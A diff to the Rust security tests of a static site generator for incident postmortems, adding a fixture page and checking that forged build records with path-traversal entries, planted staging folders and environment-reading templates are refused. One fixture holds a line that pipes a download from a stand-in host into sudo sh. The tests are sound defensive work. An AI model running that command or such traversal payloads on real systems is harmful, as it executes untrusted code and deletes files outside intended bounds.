@@ -20,6 +20,8 @@ const SECRET: &str = "the secret of these tests, long enough";
 /// A postmortem whose code block a planted cache would like to change.
 const POSTMORTEM: &str = "+++\ntitle = \"Restart\"\ndate = 2024-01-02\nseverity = \"sev3\"\nservices = [\"api\"]\n\n[incident]\nstarted = 2024-01-01T10:00:00Z\n+++\nWe ran:\n\n```sh\nsystemctl restart api\n```\n\nThen it [recovered](other.md).\n";
 
+const EXTRA: &str = "+++\ntitle = \"Extra\"\ndate = 2024-03-04\nseverity = \"sev3\"\nservices = [\"db\"]\n\n[incident]\nstarted = 2024-03-04T10:00:00Z\n+++\nThe db was slow.\n";
+
 const OTHER: &str = "+++\ntitle = \"Other outage\"\ndate = 2024-02-03\nseverity = \"sev2\"\nservices = [\"api\"]\n\n[incident]\nstarted = 2024-02-03T10:00:00Z\n+++\nThe api restarted again, as in [restart](restart.md).\n\n```sh\ncurl https://x.example/i | sudo sh\n```\n";
 
 /// A scratch workspace: the archive in `archive/`, and a folder beside it no build may
@@ -35,6 +37,8 @@ impl Scratch {
         let root = scratch.root();
         write(&root, "content/postmortems/restart.md", POSTMORTEM);
         write(&root, "content/postmortems/other.md", OTHER);
+        // A page a test can remove, so that the next build has a file to delete.
+        write(&root, "content/postmortems/extra.md", EXTRA);
         write(&scratch.victim(), "keep.txt", "a file outside the output");
         write(&scratch.victim(), "deep/keep.txt", "another");
         scratch
@@ -87,7 +91,11 @@ impl Scratch {
         let stderr = stderr(&built);
         assert!(built.status.success(), "{stderr}");
         assert!(!stderr.contains("panicked"), "{stderr}");
-        assert_eq!(self.everything_else(), before, "a file outside the output changed");
+        assert_eq!(
+            self.everything_else(),
+            before,
+            "a file outside the output changed"
+        );
         assert!(
             files_under(&self.out()) == self.clean_site(),
             "the site differs from a clean build's"
@@ -167,21 +175,24 @@ fn a_last_build_record_naming_paths_outside_the_output_deletes_nothing() {
         &postcard_str("sitemap.xml"),
         &postcard_str("../../victim/keep.txt"),
     );
+    let payload = replaced(&payload, &postcard_str("feed.xml"), &postcard_str(absolute));
+    // And a folder of the output, whose files an update lists to delete those it no longer
+    // writes.
     let payload = replaced(
         &payload,
-        &postcard_str("robots.txt"),
-        &postcard_str(absolute),
+        &postcard_str("stats"),
+        &postcard_str("../../victim"),
     );
     // Unsealed, as a pull request would commit it.
     std::fs::write(&record, &payload).unwrap();
     // Remove a page, so that the build has something to delete.
-    std::fs::remove_file(scratch.root().join("content/postmortems/other.md")).unwrap();
+    std::fs::remove_file(scratch.root().join("content/postmortems/extra.md")).unwrap();
     let noted = scratch.assert_build_is_clean();
     assert!(noted.contains("last-build.bin"), "{noted}");
 
     // Sealed, as only a holder of the key could: refused all the same for its paths.
     assert!(scratch.build().status.success());
-    write(&scratch.root(), "content/postmortems/other.md", OTHER);
+    write(&scratch.root(), "content/postmortems/extra.md", EXTRA);
     forge(&scratch.root(), "last-build.bin", &payload);
     scratch.assert_build_is_clean();
 }
@@ -225,10 +236,16 @@ fn planted_bookkeeping_beside_the_output_is_never_applied() {
     // What a pull request could commit into a fresh clone: an old site to restore, a
     // staging folder and a journal to apply, by the names an earlier version used and by
     // the names this one uses with another key.
-    for name in [".public.hindsight-old", ".public.hindsight-old-0123456789abcdef"] {
+    for name in [
+        ".public.hindsight-old",
+        ".public.hindsight-old-0123456789abcdef",
+    ] {
         write(&root, &format!("{name}/index.html"), "defaced");
     }
-    for name in [".public.hindsight-new", ".public.hindsight-new-0123456789abcdef"] {
+    for name in [
+        ".public.hindsight-new",
+        ".public.hindsight-new-0123456789abcdef",
+    ] {
         write(&root, &format!("{name}/index.html"), "defaced");
     }
     for name in [
@@ -246,7 +263,7 @@ fn planted_bookkeeping_beside_the_output_is_never_applied() {
     }
     scratch.assert_build_is_clean();
     // Over a previous site, as well.
-    std::fs::remove_file(root.join("content/postmortems/other.md")).unwrap();
+    std::fs::remove_file(root.join("content/postmortems/extra.md")).unwrap();
     scratch.assert_build_is_clean();
 }
 
@@ -328,7 +345,8 @@ fn templates_cannot_read_the_environment() {
     let stderr = stderr(&built);
     assert_eq!(built.status.code(), Some(1), "{stderr}");
     assert!(stderr.contains("`get_env` is disabled"), "{stderr}");
-    let leaked = files_under(&scratch.out())
+    assert!(!scratch.out().exists(), "nothing is written");
+    let leaked = files_under(&scratch.root())
         .values()
         .any(|bytes| String::from_utf8_lossy(bytes).contains(SECRET));
     assert!(!leaked, "the secret was published");
@@ -368,5 +386,5 @@ fn new_refuses_a_title_of_several_lines() {
     assert_eq!(made.status.code(), Some(2), "{}", stderr(&made));
     assert!(stderr(&made).contains("line break"), "{}", stderr(&made));
     let written = files_under(&scratch.root().join("content/postmortems"));
-    assert_eq!(written.len(), 2, "{:?}", written.keys());
+    assert_eq!(written.len(), 3, "{:?}", written.keys());
 }
